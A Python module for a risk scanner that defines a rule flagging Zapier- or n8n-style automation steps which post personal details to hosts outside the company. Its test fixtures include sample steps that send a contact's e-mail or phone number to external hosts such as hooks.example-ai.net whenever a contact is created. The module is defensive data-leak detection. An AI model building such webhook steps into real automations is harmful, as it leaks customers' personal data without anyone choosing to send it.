"""Automation configs (Zapier-, n8n- or Make-style steps, webhooks) that post people's
personal details to a host outside the company, on every event.

A step is a mapping with a URL (`url`, `endpoint`, `webhook_url` …) and a body
(`body`, `payload`, `data`, `json` …). It is risky when the host is outside the company
(not an `internal`/`corp` name, not one of the company's domains) and the body carries
personal fields: an e-mail, phone, address, birth date or account number, named by its
key or by the template it fills in (`"{{ticket.requester.email}}"`).
"""

from __future__ import annotations

import re
from typing import Any
from urllib.parse import urlsplit

from bot.risk.packs.docmodel import Doc, DocRule, Judge, mappings, text_of
from bot.risk.packs.net import outside

_URL_KEYS = ("url", "endpoint", "webhook", "webhook_url", "webhookurl", "uri", "target_url")
_BODY_KEYS = ("body", "payload", "data", "json", "fields", "params", "form", "parameters")
_PERSONAL = re.compile(
    r"(?i)e[-_]?mail|phone|telefon|t[eé]l[eé]phone|telefone|mobile|celular|handy|address|"
    r"adresse|direcci[oó]n|endere[cç]o|birth|geburt|naissance|nacimiento|nascimento|\bdob\b|"
    r"ssn|social_security|iban|passport|national_id|tax_id|\bdni\b|\bcpf\b|steuer"
)
_INTERNAL_LABEL = re.compile(
    r"(?i)(?:^|\.)(?:internal|interno|interna|intern|interne|corp|intranet|lan|local)(?:\.|$)"
)


def _host(value: Any) -> str | None:
    text = text_of(value)
    if not text.lower().startswith(("http://", "https://")):
        return None
    host = (urlsplit(text).hostname or "").lower()
    return host if "." in host and not host[-1].isdigit() else None


def _personal_fields(body: Any) -> list[str]:
    """Keys of the body whose name or filled-in template is a personal detail."""
    out = []
    for d in mappings(body):
        for key, value in d.items():
            if isinstance(value, dict | list):
                continue
            if _PERSONAL.search(str(key)) or _PERSONAL.search(text_of(value)):
                out.append(str(key))
    return out


def judge_hook_personal_data(doc: Doc) -> list[str]:
    out = []
    for d in doc.tree_mappings():
        lowered = {str(k).lower(): k for k in d}
        url_key = next((lowered[k] for k in _URL_KEYS if k in lowered), None)
        body_key = next((lowered[k] for k in _BODY_KEYS if k in lowered), None)
        if url_key is None or body_key is None:
            continue
        host = _host(d[url_key])
        if host is None or _INTERNAL_LABEL.search(host):
            continue
        if doc.domains and not outside(host, doc.domains):
            continue
        fields = _personal_fields(d[body_key])
        if fields:
            out.append(f"sends {', '.join(fields[:4])} to {host}")
    return out


JUDGES: dict[str, Judge] = {"hook_personal_data": judge_hook_personal_data}

_STEP = (
    "trigger: crm.contact.created\naction:\n  type: http_post\n  url: {url}\n"
    "  body:\n    {key}: '{{{{contact.{field}}}}}'\n"
)

RULES: tuple[DocRule, ...] = (
    DocRule(
        "doc.hook_personal_data",
        "exfiltration",
        "high",
        "require_approval",
        "An automation step that posts people's personal details (e-mail, phone, address, "
        "birth date, account numbers) to a service outside the company on every event: "
        "customer data leaves without anyone choosing to send it.",
        ("hook_personal_data",),
        match=(
            _STEP.format(url="https://api.enrich-leads.io/v1", key="email", field="email"),
            _STEP.format(url="https://hooks.example-ai.net/x", key="who", field="phone_number"),
        ),
        not_match=(
            _STEP.format(url="https://crm.internal.acme.example/v1", key="email", field="email"),
            _STEP.format(url="https://api.enrich-leads.io/v1", key="contact_id", field="id"),
            _STEP.format(url="ftp-not-a-url", key="email", field="email"),
        ),
    ),
)
